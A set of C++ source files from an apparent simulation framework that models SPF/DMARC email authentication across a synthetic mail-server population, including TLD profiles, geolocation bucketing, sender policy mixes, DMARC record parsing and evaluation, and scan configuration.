    TldProfile{"org", 14427, 3946, 0.80, 0.16, 0.25, 999.0, 999.0},
    TldProfile{"in", 7856, 0, 1.10, 0.12, 0.20, 19.1, 72.9},
    TldProfile{"io", 5122, 0, 0.50, 0.25, 0.40, 999.0, 999.0},
    TldProfile{"au", 4685, 92, 0.70, 0.25, 0.30, -33.9, 151.2},
    TldProfile{"vn", 4326, 0, 1.60, 0.08, 0.15, 21.0, 105.8},
    TldProfile{"co", 4250, 0, 0.80, 0.15, 0.25, 4.7, -74.1},
    TldProfile{"ua", 4139, 0, 1.80, 0.10, 0.15, 50.5, 30.5},
    TldProfile{"tr", 4117, 0, 1.30, 0.28, 0.30, 41.0, 28.9},
    TldProfile{"uk", 3429, 241, 0.70, 0.30, 0.35, 51.5, -0.1},
    TldProfile{"id", 2997, 0, 1.40, 0.10, 0.20, -6.2, 106.8},
    TldProfile{"ca", 2835, 172, 0.70, 0.25, 0.30, 43.7, -79.4},
    // 2-Week MX top-15 TLDs not already above.
    TldProfile{"edu", 900, 2108, 0.50, 0.18, 0.40, 999.0, 999.0},
    TldProfile{"us", 700, 828, 0.80, 0.20, 0.25, 39.0, -98.0},
    TldProfile{"gov", 120, 255, 0.30, 0.22, 0.50, 38.9, -77.0},
    TldProfile{"cam", 150, 232, 1.00, 0.10, 0.20, 999.0, 999.0},
    TldProfile{"de", 2600, 149, 0.60, 0.46, 0.35, 52.5, 13.4},
    TldProfile{"work", 300, 142, 1.20, 0.08, 0.15, 999.0, 999.0},
    TldProfile{"cn", 1800, 99, 1.20, 0.02, 0.05, 39.9, 116.4},
    TldProfile{"it", 1900, 90, 0.90, 0.22, 0.25, 41.9, 12.5},
    TldProfile{"top", 600, 86, 1.50, 0.05, 0.10, 999.0, 999.0},
    // Table 5 TLDs (best/worst patchers) not in the Table 2 top-15s. Counts
    // here are fitted so each crosses Table 5's >=50-vulnerable threshold.
    TldProfile{"za", 1900, 20, 1.40, 0.79, 0.98, -29.1, 26.2},
    TldProfile{"gr", 1100, 10, 1.00, 0.75, 0.60, 38.0, 23.7},
    TldProfile{"eu", 700, 25, 0.80, 0.29, 0.30, 50.8, 4.4},
    TldProfile{"il", 1300, 30, 1.45, 0.03, 0.10, 32.1, 34.8},
    TldProfile{"by", 700, 5, 1.45, 0.02, 0.10, 53.9, 27.6},
    TldProfile{"tw", 1400, 15, 1.30, 0.00, 0.00, 25.0, 121.5},
    // European TLDs with higher-than-average patching (§7.3), and filler.
    TldProfile{"nl", 1500, 60, 0.70, 0.35, 0.40, 52.4, 4.9},
    TldProfile{"fr", 1700, 70, 0.80, 0.30, 0.35, 48.9, 2.3},
    TldProfile{"pl", 1400, 50, 1.20, 0.18, 0.25, 52.2, 21.0},
    TldProfile{"cz", 800, 30, 1.10, 0.20, 0.25, 50.1, 14.4},
    TldProfile{"kr", 900, 40, 1.20, 0.10, 0.15, 37.6, 127.0},
    TldProfile{"jp", 1600, 80, 0.60, 0.20, 0.30, 35.7, 139.7},
    TldProfile{"br", 1900, 60, 1.30, 0.08, 0.15, -23.6, -46.6},
    TldProfile{"mx", 900, 30, 1.30, 0.06, 0.12, 19.4, -99.1},
    TldProfile{"ar", 700, 20, 1.30, 0.05, 0.12, -34.6, -58.4},
    TldProfile{"es", 1100, 40, 0.90, 0.25, 0.30, 40.4, -3.7},
};

}  // namespace

std::span<const TldProfile> tld_profiles() { return kProfiles; }

std::optional<TldProfile> find_tld(std::string_view tld) {
  for (const auto& profile : kProfiles) {
    if (profile.tld == tld) return profile;
  }
  return std::nullopt;
}

}  // namespace spfail::population
