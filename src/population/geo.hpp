// Geolocation substrate standing in for the DbIP database (paper §7.3).
//
// The paper geolocates each vulnerable address and aggregates coordinates
// into geographically distinct buckets for the Figure 3 choropleths. Here,
// every address is assigned coordinates from its TLD's anchor (country-code
// TLDs) or from a weighted global mix (com/net/org/...), with jitter; the
// same bucketing then reproduces the figure's relative concentrations.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "util/ip.hpp"
#include "util/rng.hpp"

namespace spfail::population {

struct GeoPoint {
  double lat = 0.0;
  double lon = 0.0;
  std::string region;  // human-readable region label for reports
};

class GeoDb {
 public:
  explicit GeoDb(util::Rng rng) : rng_(std::move(rng)) {}

  // Assign (and remember) coordinates for an address under the given TLD.
  GeoPoint assign(const util::IpAddress& address, std::string_view tld);

  // DbIP-style lookup of a previously assigned address.
  const GeoPoint* lookup(const util::IpAddress& address) const;

  std::size_t size() const noexcept { return points_.size(); }

 private:
  util::Rng rng_;
  std::map<util::IpAddress, GeoPoint> points_;
};

// A lat/lon cell for choropleth aggregation (`cell_degrees` controls
// resolution; the paper aggregates to "geographically distinct buckets").
struct GeoBucket {
  int lat_cell = 0;
  int lon_cell = 0;
  friend auto operator<=>(const GeoBucket&, const GeoBucket&) = default;
};

GeoBucket bucket_of(const GeoPoint& point, double cell_degrees = 10.0);

// Aggregate counts per bucket; value = (region label, count).
struct BucketCount {
  GeoBucket bucket;
  std::string region;
  std::size_t count = 0;
};

}  // namespace spfail::population
