#include "population/policy_mix.hpp"

#include <stdexcept>

namespace spfail::population {

std::string to_string(SenderSpf spf) {
  switch (spf) {
    case SenderSpf::Normal:
      return "normal";
    case SenderSpf::PlusAll:
      return "plus-all";
    case SenderSpf::BroadCidr:
      return "broad-cidr";
    case SenderSpf::LongChain:
      return "long-chain";
  }
  return "?";
}

std::string to_string(SenderDkim dkim) {
  switch (dkim) {
    case SenderDkim::None:
      return "none";
    case SenderDkim::Aligned:
      return "aligned";
    case SenderDkim::Misaligned:
      return "misaligned";
  }
  return "?";
}

std::string to_string(SenderRouting routing) {
  switch (routing) {
    case SenderRouting::Direct:
      return "direct";
    case SenderRouting::ForwardPlain:
      return "forward-plain";
    case SenderRouting::ForwardSrs:
      return "forward-srs";
    case SenderRouting::EspEnvelope:
      return "esp-envelope";
  }
  return "?";
}

SenderSpf parse_sender_spf(std::string_view text) {
  if (text == "normal") return SenderSpf::Normal;
  if (text == "plus-all") return SenderSpf::PlusAll;
  if (text == "broad-cidr") return SenderSpf::BroadCidr;
  if (text == "long-chain") return SenderSpf::LongChain;
  throw std::invalid_argument("unknown SenderSpf '" + std::string(text) + "'");
}

SenderDkim parse_sender_dkim(std::string_view text) {
  if (text == "none") return SenderDkim::None;
  if (text == "aligned") return SenderDkim::Aligned;
  if (text == "misaligned") return SenderDkim::Misaligned;
  throw std::invalid_argument("unknown SenderDkim '" + std::string(text) + "'");
}

SenderRouting parse_sender_routing(std::string_view text) {
  if (text == "direct") return SenderRouting::Direct;
  if (text == "forward-plain") return SenderRouting::ForwardPlain;
  if (text == "forward-srs") return SenderRouting::ForwardSrs;
  if (text == "esp-envelope") return SenderRouting::EspEnvelope;
  throw std::invalid_argument("unknown SenderRouting '" + std::string(text) +
                              "'");
}

bool PolicyMix::stages_senders() const noexcept {
  return forward_plain_rate > 0.0 || forward_srs_rate > 0.0 ||
         esp_envelope_rate > 0.0 || dkim_aligned_rate > 0.0 ||
         dkim_misaligned_rate > 0.0 || dmarc_publish_rate > 0.0 ||
         spf_plus_all_rate > 0.0 || spf_broad_cidr_rate > 0.0 ||
         spf_long_chain_rate > 0.0;
}

void PolicyMix::validate() const {
  const auto check_rate = [](const char* name, double rate) {
    if (!(rate >= 0.0 && rate <= 1.0)) {
      throw std::invalid_argument(std::string("PolicyMix::") + name +
                                  " must be in [0, 1], got " +
                                  std::to_string(rate));
    }
  };
  check_rate("greylist_rate", greylist_rate);
  check_rate("dmarc_check_rate", dmarc_check_rate);
  check_rate("flaky_rate", flaky_rate);
  check_rate("admin_recipient_rate", admin_recipient_rate);
  check_rate("reject_spf_fail_rate", reject_spf_fail_rate);
  check_rate("multi_stack_rate", multi_stack_rate);
  check_rate("forward_plain_rate", forward_plain_rate);
  check_rate("forward_srs_rate", forward_srs_rate);
  check_rate("esp_envelope_rate", esp_envelope_rate);
  check_rate("dkim_aligned_rate", dkim_aligned_rate);
  check_rate("dkim_misaligned_rate", dkim_misaligned_rate);
  check_rate("dmarc_publish_rate", dmarc_publish_rate);
  check_rate("dmarc_reject_share", dmarc_reject_share);
  check_rate("dmarc_quarantine_share", dmarc_quarantine_share);
  check_rate("spf_plus_all_rate", spf_plus_all_rate);
  check_rate("spf_broad_cidr_rate", spf_broad_cidr_rate);
  check_rate("spf_long_chain_rate", spf_long_chain_rate);

  const auto check_group = [](const char* what, double sum) {
    if (sum > 1.0) {
      throw std::invalid_argument(std::string("PolicyMix ") + what +
                                  " rates sum past 1 (" +
                                  std::to_string(sum) + ")");
    }
  };
  check_group("routing", forward_plain_rate + forward_srs_rate +
                             esp_envelope_rate);
  check_group("dkim", dkim_aligned_rate + dkim_misaligned_rate);
  check_group("dmarc policy share",
              dmarc_reject_share + dmarc_quarantine_share);
  check_group("spf misconfiguration",
              spf_plus_all_rate + spf_broad_cidr_rate + spf_long_chain_rate);

  if (dmarc_pct < 0 || dmarc_pct > 100) {
    throw std::invalid_argument("PolicyMix::dmarc_pct must be in [0, 100]");
  }
}

PolicyMix PolicyMix::paper_baseline() { return PolicyMix{}; }

PolicyMix PolicyMix::forwarding() {
  PolicyMix mix;
  mix.forward_plain_rate = 0.12;  // forwarders that preserve MAIL FROM
  mix.forward_srs_rate = 0.07;    // forwarders that rewrite (SRS)
  mix.dkim_aligned_rate = 0.45;   // signatures survive the hop
  mix.dmarc_publish_rate = 0.40;
  mix.dmarc_reject_share = 0.45;
  mix.dmarc_quarantine_share = 0.25;
  return mix;
}

PolicyMix PolicyMix::alignment() {
  PolicyMix mix;
  mix.esp_envelope_rate = 0.50;     // SPF-misaligned envelopes by design
  mix.dkim_aligned_rate = 0.40;
  mix.dkim_misaligned_rate = 0.22;  // the ESP signs with its own domain
  mix.dmarc_publish_rate = 0.85;
  mix.dmarc_reject_share = 0.50;
  mix.dmarc_quarantine_share = 0.25;
  mix.dmarc_pct = 60;  // pct= sampling visibly in play
  return mix;
}

PolicyMix PolicyMix::misconfig() {
  PolicyMix mix;
  mix.spf_plus_all_rate = 0.07;
  mix.spf_broad_cidr_rate = 0.05;
  mix.spf_long_chain_rate = 0.04;
  return mix;
}

util::IpAddress forwarder_address() {
  return util::IpAddress::v4(203, 0, 113, 200);
}

util::IpAddress esp_address() { return util::IpAddress::v4(203, 0, 113, 210); }

util::IpAddress attacker_address() {
  return util::IpAddress::v4(198, 51, 100, 66);
}

std::string dkim_secret_for(std::string_view domain) {
  return "k:" + std::string(domain);
}

}  // namespace spfail::population
