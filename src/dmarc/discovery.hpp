// DMARC policy discovery (RFC 7489 section 6.6.3) and the disposition an
// evaluating MTA applies to a message given its SPF result.
//
// Discovery queries _dmarc.<from-domain>/TXT; if no record exists, it falls
// back to _dmarc.<organizational-domain>. The organizational domain is
// derived with a small embedded public-suffix list covering the TLD shapes
// the simulation generates (a stand-in for the full PSL).
#pragma once

#include "dmarc/record.hpp"
#include "dns/resolver.hpp"
#include "spf/result.hpp"

namespace spfail::dmarc {

// The organizational domain of `domain`: the registrable domain one label
// below the public suffix ("a.b.example.co.uk" -> "example.co.uk").
dns::Name organizational_domain(const dns::Name& domain);

struct DiscoveryResult {
  // Where the record was found (empty when none was).
  dns::Name source;
  std::optional<Record> record;
  bool from_organizational_fallback = false;
};

// Look up the applicable DMARC record for mail whose RFC5322.From domain is
// `from_domain`.
DiscoveryResult discover(dns::StubResolver& resolver,
                         const dns::Name& from_domain);

// What a receiver should do with the message.
enum class Disposition { Deliver, Quarantine, Reject };
std::string to_string(Disposition disposition);

// Apply RFC 7489 semantics: an SPF Pass with an aligned domain passes DMARC
// (this simulation carries no DKIM signatures); anything else triggers the
// discovered policy. `spf_domain` is the MAIL FROM domain SPF evaluated.
Disposition disposition_for(const DiscoveryResult& discovery,
                            spf::Result spf_result,
                            const dns::Name& spf_domain,
                            const dns::Name& from_domain);

// True when `authenticated` is aligned with `from_domain` under `alignment`
// (strict: equal; relaxed: same organizational domain).
bool aligned(const dns::Name& authenticated, const dns::Name& from_domain,
             Alignment alignment);

// Full RFC 7489 disposition with both authentication methods: DMARC passes
// when EITHER an aligned SPF Pass or an aligned DKIM Pass exists.
// `dkim_pass` / `dkim_domain` come from dkim::verify's Verification.
Disposition disposition_for(const DiscoveryResult& discovery,
                            spf::Result spf_result,
                            const dns::Name& spf_domain, bool dkim_pass,
                            const dns::Name& dkim_domain,
                            const dns::Name& from_domain);

}  // namespace spfail::dmarc
