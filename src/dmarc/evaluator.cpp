#include "dmarc/evaluator.hpp"

#include "util/rng.hpp"

namespace spfail::dmarc {

namespace {

// The next-lower policy a sampled-out message receives (RFC 7489 §6.6.4).
Policy downgrade(Policy policy) noexcept {
  switch (policy) {
    case Policy::Reject:
      return Policy::Quarantine;
    case Policy::Quarantine:
    case Policy::None:
      return Policy::None;
  }
  return Policy::None;
}

Disposition disposition_of(Policy policy) noexcept {
  switch (policy) {
    case Policy::None:
      return Disposition::Deliver;
    case Policy::Quarantine:
      return Disposition::Quarantine;
    case Policy::Reject:
      return Disposition::Reject;
  }
  return Disposition::Deliver;
}

}  // namespace

bool Evaluator::sampled_in(const EvaluationInput& input, int percent) const {
  if (percent >= 100) return true;
  if (percent <= 0) return false;
  // A fresh lane per message identity: stateless, so evaluation order (and
  // lazy-vs-eager host materialisation) cannot change the outcome.
  util::Rng lane(sampling_seed_ ^
                 util::fnv1a(input.from_domain.to_string()) ^
                 (0x9e3779b97f4a7c15ULL *
                  util::fnv1a(input.spf_domain.to_string())));
  return lane.uniform(0, 99) < static_cast<std::uint64_t>(percent);
}

Evaluation Evaluator::evaluate(const EvaluationInput& input) const {
  Evaluation out;

  const DiscoveryResult discovery = discover(*resolver_, input.from_domain);
  if (!discovery.record.has_value()) return out;

  out.has_record = true;
  out.record_source = discovery.source;
  out.record = discovery.record;
  const Record& record = *discovery.record;

  out.spf_aligned_pass =
      input.spf_result == spf::Result::Pass &&
      aligned(input.spf_domain, input.from_domain, record.spf_alignment);
  out.dkim_aligned_pass =
      input.dkim_result == dkim::VerifyResult::Pass &&
      aligned(input.dkim_domain, input.from_domain, record.dkim_alignment);
  out.pass = out.spf_aligned_pass || out.dkim_aligned_pass;
  if (out.pass) return out;

  Policy policy = discovery.from_organizational_fallback
                      ? record.effective_subdomain_policy()
                      : record.policy;
  if (!sampled_in(input, record.percent)) {
    out.sampled_out = true;
    policy = downgrade(policy);
  }
  out.applied_policy = policy;
  out.disposition = disposition_of(policy);
  return out;
}

}  // namespace spfail::dmarc
