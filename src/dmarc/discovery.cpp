#include "dmarc/discovery.hpp"

#include <array>

namespace spfail::dmarc {

namespace {

// PSL-lite: two-level public suffixes the simulation's domains can produce;
// everything else is treated as a one-label suffix.
constexpr std::array<std::string_view, 8> kTwoLevelSuffixes = {
    "co.uk", "org.uk", "ac.uk", "com.au", "com.br", "co.za", "com.tr", "co.jp",
};

}  // namespace

dns::Name organizational_domain(const dns::Name& domain) {
  const auto& labels = domain.labels();
  if (labels.size() <= 2) return domain;

  // Check for a two-level public suffix.
  const std::string two_level =
      labels[labels.size() - 2] + "." + labels[labels.size() - 1];
  std::size_t suffix_labels = 1;
  for (const auto candidate : kTwoLevelSuffixes) {
    if (two_level == candidate) {
      suffix_labels = 2;
      break;
    }
  }
  const std::size_t keep = suffix_labels + 1;
  if (labels.size() <= keep) return domain;

  std::string out;
  for (std::size_t i = labels.size() - keep; i < labels.size(); ++i) {
    if (!out.empty()) out.push_back('.');
    out += labels[i];
  }
  return dns::Name::lenient(out);
}

DiscoveryResult discover(dns::StubResolver& resolver,
                         const dns::Name& from_domain) {
  DiscoveryResult result;

  const auto try_fetch = [&](const dns::Name& where) -> bool {
    const dns::Name query = where.child("_dmarc");
    for (const auto& txt : resolver.txt(query)) {
      if (!looks_like_dmarc(txt)) continue;
      try {
        result.record = parse_record(txt);
        result.source = query;
        return true;
      } catch (const RecordSyntaxError&) {
        // RFC 7489: syntactically invalid records are ignored.
      }
    }
    return false;
  };

  if (try_fetch(from_domain)) return result;
  const dns::Name org = organizational_domain(from_domain);
  if (org != from_domain && try_fetch(org)) {
    result.from_organizational_fallback = true;
  }
  return result;
}

std::string to_string(Disposition disposition) {
  switch (disposition) {
    case Disposition::Deliver:
      return "deliver";
    case Disposition::Quarantine:
      return "quarantine";
    case Disposition::Reject:
      return "reject";
  }
  return "?";
}

bool aligned(const dns::Name& authenticated, const dns::Name& from_domain,
             Alignment alignment) {
  if (alignment == Alignment::Strict) return authenticated == from_domain;
  return organizational_domain(authenticated) ==
         organizational_domain(from_domain);
}

Disposition disposition_for(const DiscoveryResult& discovery,
                            spf::Result spf_result,
                            const dns::Name& spf_domain,
                            const dns::Name& from_domain) {
  return disposition_for(discovery, spf_result, spf_domain,
                         /*dkim_pass=*/false, dns::Name{}, from_domain);
}

Disposition disposition_for(const DiscoveryResult& discovery,
                            spf::Result spf_result,
                            const dns::Name& spf_domain, bool dkim_pass,
                            const dns::Name& dkim_domain,
                            const dns::Name& from_domain) {
  if (!discovery.record.has_value()) return Disposition::Deliver;
  const Record& record = *discovery.record;

  // DMARC passes when an authentication mechanism passes *and* aligns.
  const bool spf_ok = spf_result == spf::Result::Pass &&
                      aligned(spf_domain, from_domain, record.spf_alignment);
  const bool dkim_ok =
      dkim_pass && aligned(dkim_domain, from_domain, record.dkim_alignment);
  if (spf_ok || dkim_ok) return Disposition::Deliver;

  // Subdomain policy applies when the From domain is a proper subdomain of
  // the record's publisher (i.e. the record came from the org fallback).
  const Policy policy = discovery.from_organizational_fallback
                            ? record.effective_subdomain_policy()
                            : record.policy;
  switch (policy) {
    case Policy::None:
      return Disposition::Deliver;
    case Policy::Quarantine:
      return Disposition::Quarantine;
    case Policy::Reject:
      return Disposition::Reject;
  }
  return Disposition::Deliver;
}

}  // namespace spfail::dmarc
