// DMARC (RFC 7489) record model and parser.
//
// The paper's scanner publishes DMARC p=reject for its probe source domains
// (§6.2) so that any probe mail surviving SPF evaluation is rejected outright
// rather than delivered. This module provides the record machinery for that,
// plus general policy discovery used by the mta policy layer.
#pragma once

#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>

namespace spfail::dmarc {

enum class Policy { None, Quarantine, Reject };
enum class Alignment { Relaxed, Strict };

std::string to_string(Policy policy);
std::string to_string(Alignment alignment);

// Strict inverses of to_string ("none"/"quarantine"/"reject", "r"/"s",
// case-insensitive per RFC 7489 tag values). Throw RecordSyntaxError on
// unknown text.
Policy parse_policy(std::string_view text);
Alignment parse_alignment(std::string_view text);

struct Record {
  Policy policy = Policy::None;            // p=
  std::optional<Policy> subdomain_policy;  // sp=
  Alignment spf_alignment = Alignment::Relaxed;   // aspf=
  Alignment dkim_alignment = Alignment::Relaxed;  // adkim=
  int percent = 100;                       // pct=
  std::string rua;                         // aggregate report URI
  std::string ruf;                         // failure report URI

  // The policy that applies to a subdomain of the publishing domain.
  Policy effective_subdomain_policy() const {
    return subdomain_policy.value_or(policy);
  }

  friend bool operator==(const Record&, const Record&) = default;
};

class RecordSyntaxError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

// True if `txt` is a DMARC record ("v=DMARC1" version tag).
bool looks_like_dmarc(std::string_view txt);

// Parse "v=DMARC1; p=reject; ..." — tag-value list per RFC 7489 section 6.3.
// Throws RecordSyntaxError for a missing/invalid p tag or malformed tags.
Record parse_record(std::string_view txt);

// Render back to canonical text.
std::string to_text(const Record& record);

}  // namespace spfail::dmarc
