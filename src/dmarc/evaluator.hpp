// dmarc::Evaluator — the full RFC 7489 evaluation pipeline in one object:
// policy discovery, SPF/DKIM alignment, pct= message sampling, and the
// final disposition.
//
// The free-function disposition_for overloads in discovery.hpp predate the
// scenario layer and ignore Record::percent entirely. The Evaluator consults
// it (RFC 7489 section 6.6.4): a record with pct=N applies its requested
// policy to N% of failing messages; the remainder receive the next-lower
// policy (reject -> quarantine, quarantine -> none). Sampling must be
// deterministic AND stateless — the same message at the same host always
// lands on the same side of the cut regardless of how many messages the
// host evaluated before it — so that lazily and eagerly materialised fleets
// agree byte for byte. Each decision therefore derives a fresh RNG lane
// from (sampling_seed, from_domain, spf_domain) rather than advancing a
// shared cursor.
#pragma once

#include <cstdint>
#include <optional>

#include "dkim/dkim.hpp"
#include "dmarc/discovery.hpp"
#include "dmarc/record.hpp"
#include "dns/name.hpp"
#include "dns/resolver.hpp"
#include "spf/result.hpp"

namespace spfail::dmarc {

// Everything the evaluating MTA knows about one message.
struct EvaluationInput {
  spf::Result spf_result = spf::Result::None;
  dns::Name spf_domain;   // MAIL FROM domain SPF evaluated
  dkim::VerifyResult dkim_result = dkim::VerifyResult::None;
  dns::Name dkim_domain;  // d= of the verified signature
  dns::Name from_domain;  // RFC5322.From domain
};

struct Evaluation {
  bool has_record = false;
  dns::Name record_source;  // where discovery found the record
  std::optional<Record> record;
  bool spf_aligned_pass = false;
  bool dkim_aligned_pass = false;
  bool pass = false;         // spf_aligned_pass || dkim_aligned_pass
  bool sampled_out = false;  // failing message excluded by pct=
  Policy applied_policy = Policy::None;  // after sp= and pct= downgrades
  Disposition disposition = Disposition::Deliver;
};

class Evaluator {
 public:
  // `sampling_seed` scopes the pct= lanes to the evaluating host so
  // distinct receivers sample independently.
  Evaluator(dns::StubResolver& resolver, std::uint64_t sampling_seed)
      : resolver_(&resolver), sampling_seed_(sampling_seed) {}

  Evaluation evaluate(const EvaluationInput& input) const;

  // The pct= coin for one message identity, exposed for tests: true when
  // the record's requested policy applies.
  bool sampled_in(const EvaluationInput& input, int percent) const;

 private:
  dns::StubResolver* resolver_;
  std::uint64_t sampling_seed_;
};

}  // namespace spfail::dmarc
