#include "dmarc/record.hpp"

#include <cctype>

#include "util/strings.hpp"

namespace spfail::dmarc {

std::string to_string(Policy policy) {
  switch (policy) {
    case Policy::None:
      return "none";
    case Policy::Quarantine:
      return "quarantine";
    case Policy::Reject:
      return "reject";
  }
  return "?";
}

std::string to_string(Alignment alignment) {
  return alignment == Alignment::Strict ? "s" : "r";
}

bool looks_like_dmarc(std::string_view txt) {
  const std::string_view trimmed = util::trim(txt);
  if (!trimmed.starts_with("v=DMARC1")) return false;
  const std::string_view rest = trimmed.substr(8);
  return rest.empty() || rest.front() == ';' || rest.front() == ' ';
}

Policy parse_policy(std::string_view text) {
  if (util::iequals(text, "none")) return Policy::None;
  if (util::iequals(text, "quarantine")) return Policy::Quarantine;
  if (util::iequals(text, "reject")) return Policy::Reject;
  throw RecordSyntaxError("invalid policy value '" + std::string(text) + "'");
}

Alignment parse_alignment(std::string_view text) {
  if (util::iequals(text, "r")) return Alignment::Relaxed;
  if (util::iequals(text, "s")) return Alignment::Strict;
  throw RecordSyntaxError("invalid alignment value '" + std::string(text) +
                          "'");
}

Record parse_record(std::string_view txt) {
  if (!looks_like_dmarc(txt)) {
    throw RecordSyntaxError("record does not start with 'v=DMARC1'");
  }
  Record record;
  bool saw_p = false;

  // Tag-value pairs separated by ';'; the version tag is the first.
  const auto tags = util::split(txt, ';');
  for (std::size_t i = 1; i < tags.size(); ++i) {
    const std::string_view tag = util::trim(tags[i]);
    if (tag.empty()) continue;
    const std::size_t eq = tag.find('=');
    if (eq == std::string_view::npos) {
      throw RecordSyntaxError("malformed tag '" + std::string(tag) + "'");
    }
    const std::string name = util::to_lower(util::trim(tag.substr(0, eq)));
    const std::string_view value = util::trim(tag.substr(eq + 1));

    if (name == "p") {
      record.policy = parse_policy(value);
      saw_p = true;
    } else if (name == "sp") {
      record.subdomain_policy = parse_policy(value);
    } else if (name == "aspf") {
      record.spf_alignment = parse_alignment(value);
    } else if (name == "adkim") {
      record.dkim_alignment = parse_alignment(value);
    } else if (name == "pct") {
      int pct = 0;
      for (char c : value) {
        if (!std::isdigit(static_cast<unsigned char>(c))) {
          throw RecordSyntaxError("malformed pct value");
        }
        pct = pct * 10 + (c - '0');
      }
      if (pct > 100) throw RecordSyntaxError("pct value out of range");
      record.percent = pct;
    } else if (name == "rua") {
      record.rua = std::string(value);
    } else if (name == "ruf") {
      record.ruf = std::string(value);
    }
    // Unknown tags MUST be ignored (RFC 7489 section 6.3).
  }
  if (!saw_p) {
    throw RecordSyntaxError("required tag 'p' missing");
  }
  return record;
}

std::string to_text(const Record& record) {
  std::string out = "v=DMARC1; p=" + to_string(record.policy);
  if (record.subdomain_policy.has_value()) {
    out += "; sp=" + to_string(*record.subdomain_policy);
  }
  if (record.spf_alignment != Alignment::Relaxed) {
    out += "; aspf=" + to_string(record.spf_alignment);
  }
  if (record.dkim_alignment != Alignment::Relaxed) {
    out += "; adkim=" + to_string(record.dkim_alignment);
  }
  if (record.percent != 100) out += "; pct=" + std::to_string(record.percent);
  if (!record.rua.empty()) out += "; rua=" + record.rua;
  if (!record.ruf.empty()) out += "; ruf=" + record.ruf;
  return out;
}

}  // namespace spfail::dmarc
