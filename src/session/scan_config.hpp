// One configuration struct for every scan entry point (DESIGN.md §11).
//
// spfail_scan, the examples, and the bench harness used to each parse their
// own flag/env subset with silent atof/atoi coercion (a typo like
// `--threads x` quietly became 0). ScanConfig centralises the knobs:
// from_env() resolves the SPFAIL_* environment over caller defaults,
// from_args() layers command-line flags on top (CLI > env > defaults), and
// both reject malformed or out-of-range values with a ScanConfigError naming
// the offending input instead of coercing it.
#pragma once

#include <stdexcept>
#include <string>

#include "faults/fault.hpp"
#include "util/work_steal.hpp"

namespace spfail::session {

// Invalid flag/env input. The message names the flag and the rejected value.
class ScanConfigError : public std::runtime_error {
 public:
  explicit ScanConfigError(const std::string& what)
      : std::runtime_error(what) {}
};

struct ScanConfig {
  // Population.
  double scale = 0.05;             // (0, 1]; SPFAIL_SCALE / --scale
  std::uint64_t fleet_seed = 2021;  // --seed
  std::uint64_t study_seed = 20211011;
  // Comma-separated ScenarioSpec names (src/scenario/): the fleet builds
  // with the specs' merged PolicyMix and each spec's outcome table is
  // measured after the scan. Empty = the plain paper population.
  // SPFAIL_SCENARIO / --scenario.
  std::string scenario;
  // Longitudinal re-measurement rounds per scenario outcome table
  // (DESIGN.md §17): each staged spec's flows replay once per round over the
  // same persistent receiver fleet, so the report carries a per-round
  // FlowTally series (greylist warm-up, DMARC pct= drift) instead of just
  // the initial state. -1 mirrors the study's round count; 0 keeps the
  // initial table only. SPFAIL_SCENARIO_ROUNDS / --scenario-rounds.
  int scenario_rounds = -1;
  // Stream hosts instead of holding the whole fleet resident (DESIGN.md
  // §14): MailHosts materialise on probe and are evicted afterwards.
  // Reports are byte-identical either way; this trades a little CPU for a
  // much larger reachable population. SPFAIL_LAZY_HOSTS / --lazy-hosts.
  bool lazy_hosts = false;

  // Scan engine.
  int threads = 0;  // 0 = SPFAIL_THREADS / hardware; --threads
  bool initial_only = false;
  // Slice scheduler (DESIGN.md §16). Auto resolves to the work-stealing
  // batch scheduler; `static` forces the legacy one-shard-per-worker split.
  // Outputs are byte-identical either way. SPFAIL_SCHED / --sched,
  // SPFAIL_STEAL / --steal-mode (none|random|adversarial).
  util::SchedPolicy sched = util::SchedPolicy::Auto;
  util::StealMode steal_mode = util::StealMode::Auto;

  // Distributed scanning (DESIGN.md §15). workers > 1 forks that many
  // crash-isolated worker processes; a worker that dies is respawned from
  // its checkpoint up to worker_restart_budget times, then abandoned (its
  // remaining items are marked inconclusive). SPFAIL_WORKERS / --workers,
  // SPFAIL_WORKER_RESTART_BUDGET / --worker-restart-budget.
  int workers = 1;
  int worker_restart_budget = 3;

  // Fault injection (SPFAIL_FAULT_SEED / SPFAIL_FAULT_RATE,
  // --fault-seed / --fault-rate).
  faults::FaultConfig faults;

  // Outputs.
  std::string trace_path;  // SPFAIL_TRACE / --trace; empty = off
  std::string csv_dir;     // SPFAIL_CSV_DIR / --csv; empty = off

  // Metrics (DESIGN.md §12): per-round JSONL snapshots go to metrics_path
  // and the final Prometheus text exposition to metrics_path + ".prom".
  // metrics_wall additionally records the opt-in wall-clock lane, which is
  // excluded from the deterministic files unless requested.
  std::string metrics_path;   // SPFAIL_METRICS / --metrics; empty = off
  bool metrics_wall = false;  // SPFAIL_METRICS_WALL / --metrics-wall

  // Checkpoint/resume (DESIGN.md §11).
  std::string checkpoint_path;  // --checkpoint; empty = no checkpoints
  int checkpoint_every = 1;     // --checkpoint-every: round-boundary cadence
  // Embed the fleet's intern table in each checkpoint (DESIGN.md §14): an
  // optional integrity section the restoring side compares against its
  // rebuilt fleet, catching seed/scale mismatches before replay diverges.
  // Off by default — absent-section snapshots are byte-identical to older
  // writers. SPFAIL_CHECKPOINT_STRINGS / --checkpoint-strings.
  bool checkpoint_strings = false;
  std::string resume_path;      // --resume; empty = fresh run
  // --halt-after-rounds: stop after N longitudinal rounds, writing a final
  // checkpoint (a deterministic stand-in for killing the process mid-study).
  // -1 = run to completion.
  int halt_after_rounds = -1;

  bool tracing() const noexcept { return !trace_path.empty(); }
  bool metrics() const noexcept { return !metrics_path.empty(); }

  // Environment over `defaults`: every SPFAIL_* variable named in the flag
  // registry (session/flag_registry.hpp — the registry is the single source
  // of truth for the flag/env surface). (SPFAIL_THREADS is resolved by the
  // thread pool itself when threads == 0.) Throws ScanConfigError on
  // malformed or out-of-range values.
  static ScanConfig from_env(const ScanConfig& defaults);
  static ScanConfig from_env();

  // Command line over environment over `defaults`. Recognises the
  // spfail_scan flag set; throws ScanConfigError for unknown flags, missing
  // or malformed values, and out-of-range numerics.
  static ScanConfig from_args(int argc, const char* const* argv,
                              const ScanConfig& defaults);
  static ScanConfig from_args(int argc, const char* const* argv);

  // Range checks shared by both builders (callers constructing a ScanConfig
  // by hand can run them too). Throws ScanConfigError.
  void validate() const;

 private:
  // Environment layer without the final validate() — from_args() defers
  // validation until the command line has been applied, so a flag can
  // legally complete a combination the environment alone would fail (e.g.
  // SPFAIL_WORKERS=8 in the environment plus --checkpoint on the CLI).
